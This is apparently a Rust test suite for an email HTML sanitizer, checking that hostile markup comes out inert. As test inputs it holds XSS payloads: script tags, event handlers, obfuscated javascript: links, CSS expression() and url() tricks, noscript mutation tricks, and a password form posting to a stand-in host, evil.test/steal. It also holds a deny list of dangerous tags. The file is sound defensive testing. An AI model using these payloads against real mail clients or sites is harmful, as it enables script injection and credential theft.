//! Hostile mail HTML, one trick at a time: each must come out inert.

use std::collections::HashMap;

use super::*;

fn clean(html: &str) -> String {
    sanitize(html, HashMap::new(), false).html
}

/// No element or attribute that can run script or reach out survives, in any case.
fn assert_inert(out: &str) {
    let lower = out.to_ascii_lowercase();
    for bad in [
        "<script",
        "<iframe",
        "<frame",
        "<object",
        "<embed",
        "<form",
        "<input",
        "<button",
        "<link",
        "<meta",
        "<base",
        "<style",
        "<svg",
        "<math",
        "javascript:",
        "vbscript:",
        "expression(",
        "url(",
        "srcdoc",
        "formaction",
    ] {
        assert!(!lower.contains(bad), "{bad} survived in {out}");
    }
    assert!(
        !lower
            .split(['<', ' ', '\t', '\n', '/'])
            .any(|w| w.starts_with("on") && w.contains('=')),
        "an event handler survived in {out}"
    );
}

#[test]
fn scripts_are_removed_with_their_content() {
    let out = clean("<p>Hi</p><script>alert(1)</script><SCRIPT src=//evil.test/x.js></SCRIPT>");
    assert_eq!(out, "<p>Hi</p>");
    assert_inert(&out);
    let out = clean("<scr<script>ipt>alert(1)</script>");
    assert_inert(&out);
}

#[test]
fn event_handlers_are_removed() {
    let out = clean(
        "<img src=x onerror=alert(1)><p onclick=\"steal()\" onmouseover='x()'>text</p>\
         <body onload=alert(1)><div ONFOCUS=a() tabindex=1>d</div>",
    );
    assert_inert(&out);
    assert!(out.contains("<p>text</p>"), "{out}");
}

#[test]
fn frames_objects_and_forms_are_removed() {
    let out = clean(
        "<iframe src=\"https://evil.test\"></iframe><iframe srcdoc=\"<script>x()</script>\"></iframe>\
         <object data=x.swf></object><embed src=x.swf>\
         <form action=\"https://evil.test/steal\" method=post><input name=password type=password>\
         <button formaction=\"https://evil.test\">Log in</button></form><p>after</p>",
    );
    assert_inert(&out);
    assert!(out.ends_with("<p>after</p>"), "{out}");
}

#[test]
fn css_that_runs_or_loads_is_removed() {
    let out = clean(
        "<style>@import 'https://evil.test/x.css'; body{background:url(https://evil.test/t)}</style>\
         <div style=\"width: expression(alert(1)); color: red\">a</div>\
         <div style=\"background-image: url('https://evil.test/t.gif'); font-weight: bold\">b</div>\
         <div style=\"background: u\\72l(https://evil.test/e)\">c</div>\
         <div style=\"behavior: url(x.htc); -moz-binding: url(x.xml#x)\">d</div>\
         <link rel=stylesheet href=https://evil.test/x.css>",
    );
    assert_inert(&out);
    assert!(out.contains("color:red"), "harmless style stays: {out}");
    assert!(out.contains("font-weight:bold"), "{out}");
    assert!(!out.contains("evil.test"), "{out}");
}

#[test]
fn javascript_and_other_links_are_removed() {
    let out = clean(
        "<a href=\"javascript:alert(1)\">a</a><a href=\" JaVaScRiPt:alert(1)\">b</a>\
         <a href=\"java&#x09;script:alert(1)\">c</a><a href=\"data:text/html,<script>x()</script>\">d</a>\
         <a href=\"vbscript:msgbox(1)\">e</a><a href=\"/settings\">f</a>\
         <a href=\"https://example.org/page\">g</a><a href=\"mailto:a@example.org\">h</a>",
    );
    assert_inert(&out);
    assert!(!out.contains("data:"), "{out}");
    assert!(
        !out.contains("/settings"),
        "relative links lead into the app: {out}"
    );
    assert!(
        out.contains(
            "<a href=\"https://example.org/page\" target=\"_blank\" rel=\"noopener noreferrer\">g</a>"
        ),
        "{out}"
    );
    assert!(out.contains("href=\"mailto:a@example.org\""), "{out}");
}

#[test]
fn remote_images_wait_until_asked_for() {
    let html = "<img src=\"https://tracker.test/open.gif?u=1\" alt=\"logo\">\
                <img src=\"http://tracker.test/2.gif\"><img src=\"//tracker.test/3.gif\">\
                <img srcset=\"https://tracker.test/4.gif 2x\">\
                <table background=\"https://tracker.test/5.gif\"><tr><td>x</td></tr></table>";
    let blocked = sanitize(html, HashMap::new(), false);
    assert!(!blocked.html.contains("tracker.test"), "{}", blocked.html);
    assert_eq!(blocked.remote_blocked, 2);
    assert!(blocked.html.contains("alt=\"logo\""));
    let shown = sanitize(html, HashMap::new(), true);
    assert_eq!(shown.remote_blocked, 0);
    assert!(
        shown
            .html
            .contains("src=\"https://tracker.test/open.gif?u=1\"")
    );
    assert!(shown.html.contains("src=\"http://tracker.test/2.gif\""));
    // Only images are let in: never a background, a style or a frame.
    assert!(!shown.html.contains("5.gif") && !shown.html.contains("4.gif"));
    assert_inert(&shown.html);
}

#[test]
fn pictures_of_the_message_itself_are_kept_but_not_svg() {
    let mut inline = HashMap::new();
    inline.insert("logo@x".to_owned(), "data:image/png;base64,AAAA".to_owned());
    let out = sanitize(
        "<img src=\"cid:logo@x\"><img src=\"cid:missing@x\">\
         <img src=\"data:image/gif;base64,R0lGOD\">\
         <img src=\"data:image/svg+xml;base64,PHN2Zz4=\"><img src=\"data:text/html;base64,PHNjcmlwdD4=\">",
        inline,
        false,
    );
    assert_eq!(
        out.html,
        "<img src=\"data:image/png;base64,AAAA\"><img><img src=\"data:image/gif;base64,R0lGOD\"><img><img>"
    );
    assert_eq!(out.remote_blocked, 0);
}

#[test]
fn svg_math_and_meta_tricks_are_removed() {
    let out = clean(
        "<svg onload=alert(1)><script>x()</script></svg><math><mtext><script>x()</script></mtext></math>\
         <meta http-equiv=refresh content=\"0;url=https://evil.test\"><base href=https://evil.test/>\
         <noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    );
    assert_inert(&out);
}

#[test]
fn ordinary_mail_keeps_its_look() {
    let out = clean(
        "<table width=\"600\" cellpadding=\"4\" bgcolor=\"#ffffff\"><tr><td align=\"center\" \
         style=\"padding: 8px; color: #333\"><font color=\"#0f766e\" size=\"3\">Hello</font>\
         <br><b>bold</b> <i>it</i></td></tr></table>",
    );
    assert!(out.contains("width=\"600\""), "{out}");
    assert!(out.contains("cellpadding=\"4\""), "{out}");
    assert!(
        out.contains("<font color=\"#0f766e\" size=\"3\">Hello</font>"),
        "{out}"
    );
    assert!(out.contains("padding:8px"), "{out}");
}

#[test]
fn the_frame_document_is_complete() {
    let d = document("<p>x</p>");
    assert!(d.starts_with("<!doctype html>"));
    assert!(d.contains("<base target=\"_blank\">"));
    assert!(d.ends_with("<body><p>x</p></body></html>"));
}
